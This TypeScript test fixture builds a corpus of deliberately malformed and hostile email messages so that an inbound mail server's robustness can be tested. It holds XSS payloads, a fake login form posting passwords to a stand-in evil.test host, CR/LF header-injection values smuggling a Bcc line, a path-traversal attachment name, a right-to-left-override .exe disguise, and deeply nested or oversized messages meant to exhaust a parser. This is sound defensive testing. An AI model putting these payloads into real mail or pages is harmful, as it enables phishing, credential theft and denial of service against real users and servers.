// Messages no honest mail program writes: script and tricks in HTML, broken and bottomless MIME, headers
// that try to become other headers, bytes in the wrong places, sizes at the edge. The inbound server
// must store each one intact or refuse it with a 5xx, and stay up. Built in memory, for the tests.
import { randomBytes } from "node:crypto";

export type HostileMail = { name: string; data: Buffer };

const CRLF = "\r\n";

/** A message from headers and a body, lines joined with CRLF. */
function mail(headers: string[], body: string): Buffer {
  return Buffer.from([...headers, "", body].join(CRLF), "latin1");
}

function basic(subject: string, extra: string[] = []): string[] {
  return [
    "From: Mallory <mallory@hostile.test>",
    "To: info@victim.test",
    `Subject: ${subject}`,
    "Date: Tue, 1 Dec 2026 10:00:00 +0000",
    `Message-ID: <${randomBytes(6).toString("hex")}@hostile.test>`,
    "MIME-Version: 1.0",
    ...extra,
  ];
}

function html(subject: string, markup: string): Buffer {
  return mail(basic(subject, ["Content-Type: text/html; charset=utf-8"]), markup);
}

/** `depth` multiparts, each the only part of the one around it, a text part at the bottom. */
function nestedMultiparts(depth: number): Buffer {
  const opening: string[] = [];
  const closing: string[] = [];
  for (let level = 0; level < depth; level++) {
    const boundary = `b${level}`;
    const type = `Content-Type: multipart/mixed; boundary="${boundary}"`;
    opening.push(level === 0 ? "" : `${type}${CRLF}`, `--${boundary}${CRLF}`);
    closing.unshift(`${CRLF}--${boundary}--${CRLF}`);
  }
  const headers = basic(`Nested ${depth} deep`, [`Content-Type: multipart/mixed; boundary="b0"`]);
  const body = `${opening.join("")}Content-Type: text/plain${CRLF}${CRLF}The bottom.${closing.join("")}`;
  return mail(headers, body);
}

/** `depth` messages, each attached inside the one around it. */
function nestedMessages(depth: number): Buffer {
  let inner = mail(basic("The innermost"), "Deep down.").toString("latin1");
  for (let level = 0; level < depth; level++) {
    inner = [...basic(`Wrapper ${level}`, ["Content-Type: message/rfc822"]), "", inner].join(CRLF);
  }
  return Buffer.from(inner, "latin1");
}

/** Base64 lines of `bytes`, 76 characters each. */
function base64Lines(bytes: Buffer): string {
  return (
    bytes
      .toString("base64")
      .match(/.{1,76}/g)
      ?.join(CRLF) ?? ""
  );
}

function withAttachment(subject: string, disposition: string, content: string, type = "application/octet-stream") {
  return mail(
    basic(subject, ['Content-Type: multipart/mixed; boundary="part"']),
    [
      "--part",
      "Content-Type: text/plain",
      "",
      "See the attachment.",
      "--part",
      `Content-Type: ${type}`,
      disposition,
      "",
      content,
      "--part--",
    ].join(CRLF),
  );
}

/** About 24 MB of plain text as an attachment: just under the limit once the message is around it. */
function largeAttachment(): Buffer {
  const line = `${"0123456789abcdef".repeat(4)}${CRLF}`;
  const text = line.repeat(Math.floor((24 * 1024 * 1024) / line.length));
  return withAttachment("A 24 MB attachment", "Content-Disposition: attachment; filename=big.txt", text, "text/plain");
}

export function hostileCorpus(): HostileMail[] {
  const nul = "\u0000";
  return [
    { name: "script in HTML", data: html("Script", "<p>Hi</p><script>fetch('/api/me').then(r=>r.text())</script>") },
    { name: "javascript: links", data: html("Links", '<a href="javascript:alert(document.cookie)">Open</a>') },
    { name: "event handlers", data: html("Handlers", '<img src="x" onerror="alert(1)"><svg onload="alert(2)">') },
    {
      name: "frames, forms and objects",
      data: html(
        "Embedded",
        '<iframe src="https://evil.test/"></iframe><form action="https://evil.test/steal"><input name="password">' +
          '<button>Log in</button></form><object data="https://evil.test/x.swf"></object><embed src="x.swf">',
      ),
    },
    {
      name: "refresh, base and meta tricks",
      data: html(
        "Moving",
        '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">' +
          '<link rel="stylesheet" href="https://evil.test/x.css"><a href="/relative">Relative</a>',
      ),
    },
    {
      name: "script in CSS, SVG and MathML",
      data: html(
        "Styled",
        '<style>body{background:url("javascript:alert(1)")}</style><div style="background-image:url(https://evil.test/t.gif);' +
          'width:expression(alert(2))">x</div><svg><script>alert(3)</script></svg><math><mtext><script>alert(4)</script></mtext></math>',
      ),
    },
    {
      name: "links in disguise",
      data: html(
        "Disguised",
        '<a href=" jav&#x09;ascript:alert(1)">Tab</a><a href="data:text/html,<script>alert(2)</script>">Data</a>' +
          '<a href="vbscript:msgbox(3)">VB</a><img srcset="https://evil.test/a.gif 1x" src="cid:none@x">' +
          '<p>Caf\u00e9 <img src="https://tracker.test/open.gif" width="1" height="1"></p>',
      ),
    },
    {
      name: "a script in an SVG attachment",
      data: withAttachment(
        "SVG",
        "Content-Disposition: attachment; filename=x.svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "image/svg+xml",
      ),
    },
    {
      name: "HTML nested 20,000 deep",
      data: html("Deep HTML", `${"<div>".repeat(20_000)}deep${"</div>".repeat(20_000)}`),
    },
    {
      name: "multipart without a boundary",
      data: mail(
        basic("No boundary", ["Content-Type: multipart/mixed"]),
        "--x\r\nContent-Type: text/plain\r\n\r\nlost\r\n--x--",
      ),
    },
    {
      name: "multipart never closed",
      data: mail(
        basic("Unclosed", ['Content-Type: multipart/mixed; boundary="open"']),
        "--open\r\nContent-Type: text/plain\r\n\r\nand then nothing",
      ),
    },
    { name: "multiparts nested 200 deep", data: nestedMultiparts(200) },
    { name: "multiparts nested 5,000 deep", data: nestedMultiparts(5_000) },
    { name: "messages attached 100 deep", data: nestedMessages(100) },
    {
      name: "CR/LF in an encoded subject",
      data: mail(
        basic(`=?UTF-8?B?${Buffer.from("Hello\r\nBcc: everyone@victim.test\r\n\r\nInjected").toString("base64")}?=`),
        "Body",
      ),
    },
    { name: "a bare CR/LF header break attempt", data: mail(basic("Line one\rBcc: x@victim.test"), "Body") },
    { name: "a 24 MB attachment", data: largeAttachment() },
    {
      name: "NUL bytes in headers and body",
      data: mail(basic(`Nul${nul}subject`, [`X-Nul: a${nul}b`]), `Text with ${nul}${nul} NULs${nul}`),
    },
    {
      name: "UTF-8 declared, Latin-1 sent",
      data: Buffer.concat([
        mail(basic("Wrong charset", ["Content-Type: text/plain; charset=utf-8"]), "Caf"),
        Buffer.from([0xe9, 0xff, 0xfe]),
      ]),
    },
    {
      name: "an unknown charset",
      data: mail(basic("=?x-klingon?Q?Qapla=27?=", ["Content-Type: text/plain; charset=x-klingon"]), "nuqneH"),
    },
    { name: "a 1 MB header line", data: mail(basic("Huge header", [`X-Huge: ${"h".repeat(1024 * 1024)}`]), "Body") },
    {
      name: "10,000 header fields",
      data: mail(
        basic(
          "Many headers",
          Array.from({ length: 10_000 }, (_, i) => `X-Field-${i}: ${i}`),
        ),
        "Body",
      ),
    },
    { name: "no From", data: mail(["To: info@victim.test", "Subject: Who sent this?"], "Nobody.") },
    { name: "no headers at all", data: Buffer.from("Just a body and nothing else.\r\n") },
    { name: "an empty message", data: Buffer.alloc(0) },
    { name: "headers and no body", data: Buffer.from(basic("Only headers").join(CRLF)) },
    {
      name: "broken base64",
      data: mail(basic("Bad base64", ["Content-Transfer-Encoding: base64"]), "!!!!not*base64###\r\n===="),
    },
    {
      name: "broken quoted-printable",
      data: mail(basic("Bad QP", ["Content-Transfer-Encoding: quoted-printable"]), "=ZZ=\r\n=0="),
    },
    {
      name: "a path in an attachment's name",
      data: withAttachment(
        "Traversal",
        'Content-Disposition: attachment; filename="../../../etc/passwd"',
        "root:x:0:0",
      ),
    },
    {
      name: "CR/LF and NUL in an attachment's name",
      data: withAttachment(
        "Bad name",
        `Content-Disposition: attachment; filename*=utf-8''evil%0D%0AX-Injected%3A%201%00.exe`,
        base64Lines(randomBytes(300)),
      ),
    },
    {
      name: "a 10,000 character Message-ID",
      data: mail(
        ["From: a@hostile.test", `Message-ID: <${"m".repeat(10_000)}@hostile.test>`, "Subject: Long id"],
        "Body",
      ),
    },
    {
      name: "References with 5,000 ids",
      data: mail(
        basic("Many references", [
          `References: ${Array.from({ length: 5_000 }, (_, i) => `<r${i}@hostile.test>`).join(" ")}`,
        ]),
        "Body",
      ),
    },
    {
      name: "dates nobody can keep",
      data: mail(["From: a@hostile.test", "Date: Sat, 1 Jan 99999 00:00:00 +0000", "Subject: Far future"], "Body"),
    },
    {
      name: "bare LF and lone CR line ends",
      data: Buffer.from("From: a@hostile.test\nSubject: Mixed\rX: y\n\nline\rline\nline\r\n", "latin1"),
    },
    {
      name: "raw 8-bit in headers",
      data: Buffer.concat([
        Buffer.from("From: a@hostile.test\r\nSubject: "),
        Buffer.from("Grüße aus Köln ✉", "utf8"),
        Buffer.from("\r\n\r\nBody\r\n"),
      ]),
    },
    { name: "a 5 MB line", data: mail(basic("Long line"), "x".repeat(5 * 1024 * 1024)) },
    {
      name: "right-to-left override in a name",
      data: mail(
        [`From: =?UTF-8?B?${Buffer.from("Bank\u202Egnp.exe").toString("base64")}?= <a@hostile.test>`, "Subject: RTL"],
        "Body",
      ),
    },
    { name: "a dot alone on a line", data: mail(basic("Dots"), "before\r\n.\r\nafter\r\n..\r\n.end") },
  ];
}
